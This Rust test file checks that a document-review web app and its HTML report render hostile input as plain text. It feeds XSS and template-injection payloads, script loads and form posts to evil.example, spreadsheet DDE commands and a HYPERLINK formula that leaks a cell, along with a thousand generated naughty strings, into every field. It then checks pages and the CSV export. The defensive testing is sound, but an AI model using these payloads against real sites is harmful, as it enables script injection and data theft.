//! Documents, names and notes that want to run: as text they are shown, in every field that shows text.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use super::chromium::Browser;
use crate::review::client::{Server, encoded};
use crate::support::{Folder, SAMPLES, report, sayso};

/// Ways into a page that was put together from text; each would set `window.ran`, open a dialog, or add an element.
const PAYLOADS: [&str; 44] = [
    "<script>window.ran=1</script>",
    "\"><script>window.ran=1</script>",
    "'><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</textarea><script>window.ran=1</script>",
    "</option></select><script>window.ran=1</script>",
    "</span></a></mark><script src=//evil.example/x.js></script>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script>",
    "<ScRiPt>window.ran=1</sCrIpT>",
    "<scr<script>ipt>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "\" onmouseover=window.ran=1 x=\"",
    "' onfocus=window.ran=1 autofocus x='",
    "\" autofocus onfocus=alert(1) \"",
    "` onload=window.ran=1 `",
    "<body onload=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<marquee onstart=window.ran=1>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.ran=1><text>x</text></a></svg>",
    "</text></svg><img src=x onerror=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.ran=1>",
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1//https://example.org",
    " \u{1}javascript:alert(1)",
    "java\tscript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    "<a href=javascript:window.ran=1 id=main>x</a>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<form action=//evil.example><button>Accept</button></form>",
    "{{ 7*7 }} {% include \"base.html\" %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.ran=1')()}}",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;",
    "\u{ff1c}script\u{ff1e}window.ran=1\u{ff1c}/script\u{ff1e} \u{202e}tpircs\u{2066}",
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"https://evil.example?\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0\n=1+1",
];

/// Pieces that naughty strings are made of.
const PIECES: [&str; 40] = [
    "<", ">", "\"", "'", "`", "&", "&lt;", "</", "/>", "<!--", "-->", "=", "+", "-", "@", ";", "\t", "\n",
    "\\", "\u{0}", "\u{feff}", "\u{200b}", "\u{202e}", "e\u{301}\u{323}", "👩‍🚒", "ß", "ﬃ", "漢字", "العربية",
    "{{", "}}", "${", "%00", "%3Cscript%3E", "script", "onerror=window.ran=1", "svg onload=alert(1)",
    "javascript:", "\u{2028}", "1e309",
];

/// A thousand strings of these pieces, the same ones every time (a linear congruence: Knuth's MMIX).
fn naughty() -> Vec<String> {
    let mut seed: u64 = 7;
    let mut below = |limit: usize| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(seed >> 33).unwrap_or_default() % limit
    };
    (0..1000).map(|_| (0..2 + below(8)).map(|_| PIECES[below(PIECES.len())]).collect()).collect()
}

/// A record and the paths of its fields that hold words, so that anything may stand in them.
struct Pattern {
    record: Value,
    words: Vec<String>,
}

impl Pattern {
    fn of(record: Value) -> Self {
        let mut paths = Vec::new();
        strings(&record, String::new(), &mut paths);
        let takes_words = |path: &String| {
            let mut tried = record.clone();
            if let Some(place) = tried.pointer_mut(path) {
                *place = "words".into();
            }
            serde_json::from_value::<sayso::record::Record>(tried).is_ok()
        };
        // What holds for one item of a list holds for all.
        let mut known: BTreeMap<String, bool> = BTreeMap::new();
        let shape = |path: &str| {
            path.split('/').filter(|part| part.parse::<usize>().is_err()).collect::<Vec<_>>().join("/")
        };
        paths.retain(|path| *known.entry(shape(path)).or_insert_with(|| takes_words(path)));
        Self { record, words: paths }
    }

    /// The record with other words in every field.
    fn poisoned(&self, mut words: impl FnMut() -> String) -> Value {
        let mut record = self.record.clone();
        for path in &self.words {
            let Some(place) = record.pointer_mut(path) else { continue };
            let old = place.as_str().map_or(0, |old| old.chars().count());
            *place = if path == "/text" { text_of(&words(), old) } else { words() }.into();
        }
        record
    }
}

/// The paths of all strings but those that tie the parts of a record to each other.
fn strings(value: &Value, path: String, found: &mut Vec<String>) {
    match value {
        Value::Object(fields) => {
            for (name, value) in fields {
                let ties = [
                    "id", "in", "claims", "figures", "cases", "attribution", "within", "schema", "sha256",
                    "money",
                ];
                if !(ties.contains(&&**name)
                    && path.starts_with('/')
                    && (value.is_string() || path.len() > 1 && value[0].is_string()))
                    && name != "schema"
                {
                    strings(value, format!("{path}/{name}"), found);
                }
            }
        }
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                strings(item, format!("{path}/{index}"), found);
            }
        }
        Value::String(_) => found.push(path),
        _ => {}
    }
}

/// The words over and over, as long as the text was, so that every span still stands in it.
fn text_of(words: &str, length: usize) -> String {
    words.chars().chain(" ".chars()).cycle().take(length).collect()
}

/// Records with every part that a page can draw: tables, checks, carried sources, cases, policies.
fn patterns() -> Vec<Pattern> {
    let ran = sayso(&["tag", SAMPLES, "--quiet"]);
    let wanted = ["written_answer/staff-dismissals", "tabloid/jail-officers", "news/"];
    let records = ran.lines();
    wanted
        .iter()
        .filter_map(|name| {
            records.iter().find(|record| record["id"].as_str().is_some_and(|id| id.contains(name)))
        })
        .map(|record| Pattern::of(record.clone()))
        .collect()
}

/// What a page may not have: a flag that a script set, an element or an attribute that only a text could have brought.
const FOREIGN: &str = "
    const found = window.ran === undefined ? [] : ['a script ran'];
    if (!document.querySelector('h1')?.innerText) found.push('nothing is drawn');
    for (const one of document.querySelectorAll('*')) {
      const bad = /^(iframe|object|embed|base|style|img|video|audio|source|math|animate|set|foreignobject|marquee|body2)$/i.test(one.tagName)
        || (one.tagName.toLowerCase() === 'script' && one.getAttribute('src') !== '/assets/review.js')
        || (one.tagName === 'META' && one.httpEquiv && !one.content.startsWith(`default-src 'none'`))
        || (one.tagName === 'LINK' && !one.href.startsWith(location.origin))
        || (one.tagName === 'FORM' && new URL(one.getAttribute('action') || '/', location).origin !== location.origin)
        || (one.hasAttribute('href') && !['http:', 'https:', location.protocol].includes(new URL(one.getAttribute('href'), location).protocol))
        || Array.from(one.attributes).some((attribute) => attribute.name.startsWith('on') || attribute.name === 'autofocus' || attribute.name === 'srcdoc');
      if (bad) found.push(one.outerHTML.slice(0, 200));
    }
    return found.join('\\n')";

/// Opens pages and says what is wrong with them.
fn look(browser: &Browser, server: &Server, pages: &[String], complaints: &mut Vec<String>) {
    for page in pages {
        browser.open(&server.address(page));
        if let Some(dialog) = browser.dialog() {
            complaints.push(format!("{page}: a dialog: {dialog}"));
        }
        let foreign = browser.read(FOREIGN);
        if !foreign.is_empty() {
            complaints.push(format!("{page}: {foreign}"));
        }
    }
    // What the policy refused, with the address of its page.
    complaints.extend(browser.complaints());
}

fn under_review(records: &[Value]) -> (Folder, Server, Browser) {
    let folder = Folder::new();
    let lines = records.iter().map(Value::to_string).collect::<Vec<_>>().join("\n");
    let output = folder.write("out <img src=x onerror=alert(1)> {{7*7}}.jsonl", lines);
    let mut server = Server::launch(&output, &["--reviewer", "Ann O'Hara"]);
    let browser = Browser::start(&folder.path("downloads"));
    browser.open(&server.address(&server.enter));
    server.cookie = browser.cookie();
    (folder, server, browser)
}

#[test]
fn no_field_runs_what_it_holds() {
    let patterns = patterns();
    assert_eq!(patterns.len(), 3);
    let records: Vec<Value> = PAYLOADS
        .iter()
        .flat_map(|payload| patterns.iter().map(move |pattern| pattern.poisoned(|| (*payload).to_owned())))
        .zip(0..)
        .map(|(record, number)| numbered(record, number))
        .collect();
    let (_folder, server, browser) = under_review(&records);
    let mut complaints = Vec::new();
    let mut pages: Vec<String> =
        ["/?state=any", "/sources", "/overview", "/history", "/out", "/help", "/unmatched"]
            .map(str::to_owned)
            .to_vec();
    let mut claim = 0;
    for (number, record) in records.iter().enumerate() {
        let payload = PAYLOADS[number / patterns.len()];
        // What reviewers type.
        let mut version = 0;
        for (action, fields) in typed(payload) {
            let body = format!("action={action}&version={version}&{fields}");
            match server.post(&format!("/claim/{claim}"), &body).status {
                303 => version += 1,
                // Not every payload may stand in a link.
                422 if fields.contains("&link=") => {}
                status => complaints.push(format!("{action} {payload:?}: {status}")),
            }
        }
        pages.push(format!("/document/{}", number + 1));
        pages.push(format!("/claim/{claim}?state=any"));
        claim += record["claims"].as_array().map_or(0, Vec::len);
    }
    pages.push("/history".to_owned());
    let all = |payload| format!("/?q={0}&publisher={0}&source={0}&tag={0}&state=any", encoded(payload));
    pages.extend(PAYLOADS.iter().map(|payload| all(payload)));
    look(&browser, &server, &pages, &mut complaints);
    complaints.extend(formulas(&server));
    report(&complaints);
}

/// A record as the `number`th document of a run.
fn numbered(mut record: Value, number: usize) -> Value {
    record["source"]["sha256"] = format!("{number:064x}").into();
    record["id"] = format!("{number} {}", record["meta"]["title"].as_str().unwrap_or_default()).into();
    record
}

/// What a reviewer may type: a note, a tag, a rating with a link, a reason, a source, the slots of a figure.
fn typed(payload: &str) -> Vec<(&'static str, String)> {
    let words = encoded(payload);
    vec![
        ("note", format!("text={words}")),
        ("tag", format!("tag={words}")),
        ("rate", format!("rating={words}&link=")),
        ("rate", format!("rating={words}&link={}", encoded(&format!("https://example.org/?{payload}")))),
        ("reject", format!("reason=other&note={words}")),
        ("edit", format!("verdict=vague&source_name={words}&source_kind=person&note={words}")),
    ]
}

/// Cells of the table that a spreadsheet would calculate.
fn formulas(server: &Server) -> Vec<String> {
    let table = server.get("/out/decisions.csv").body;
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
    assert!(rows.len() > 100, "{} rows", rows.len());
    let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let cells = rows.iter().flat_map(|row| row.iter());
    cells
        .filter(|cell| cell.trim_start().starts_with(starts))
        .map(|cell| format!("a formula: {cell:?}"))
        .collect()
}

#[test]
fn a_thousand_naughty_strings_are_text() {
    let strings = naughty();
    let mut next = strings.iter().cycle().cloned();
    let patterns = patterns();
    let records: Vec<Value> = (0..30)
        .map(|number| {
            numbered(patterns[number % patterns.len()].poisoned(|| next.next().unwrap_or_default()), number)
        })
        .collect();
    let (_folder, server, browser) = under_review(&records);
    let mut complaints = Vec::new();
    let claims: usize = records.iter().filter_map(|record| record["claims"].as_array()).map(Vec::len).sum();
    for (number, words) in strings.iter().enumerate() {
        let claim = number % claims;
        let body = format!("action=note&version={}&text=n{}", number / claims, encoded(words));
        let status = server.post(&format!("/claim/{claim}"), &body).status;
        if status != 303 {
            complaints.push(format!("{words:?}: {status}"));
        }
    }
    let mut pages: Vec<String> = (1..=records.len()).map(|number| format!("/document/{number}")).collect();
    pages.extend((0..claims).step_by(10).map(|claim| format!("/claim/{claim}?state=any")));
    pages.extend(["/?state=any", "/sources", "/overview", "/history"].map(str::to_owned));
    // Searches are what a stranger's link brings.
    pages.extend(strings.iter().step_by(20).map(|words| format!("/?q={}", encoded(words))));
    look(&browser, &server, &pages, &mut complaints);
    report(&complaints);
}

#[test]
fn the_report_runs_nothing() {
    let patterns = patterns();
    let records: Vec<String> =
        PAYLOADS.iter().map(|payload| patterns[0].poisoned(|| (*payload).to_owned()).to_string()).collect();
    let folder = Folder::with(&[("out.jsonl", records.join("\n"))]);
    let ran = sayso(&["report", &folder.typed("out.jsonl"), "-o", &folder.typed("report.html")]);
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    let browser = Browser::start(&folder.path("downloads"));
    browser.open(&format!("file://{}", folder.typed("report.html")));
    assert_eq!(browser.dialog(), None);
    // A report has its style in itself.
    let foreign = browser.read(&FOREIGN.replace("base|style|", "base|"));
    assert_eq!(foreign, "");
    assert_eq!(browser.complaints(), [""; 0]);
    assert_eq!(json!(browser.run("return document.scripts.length")), json!(0));
}
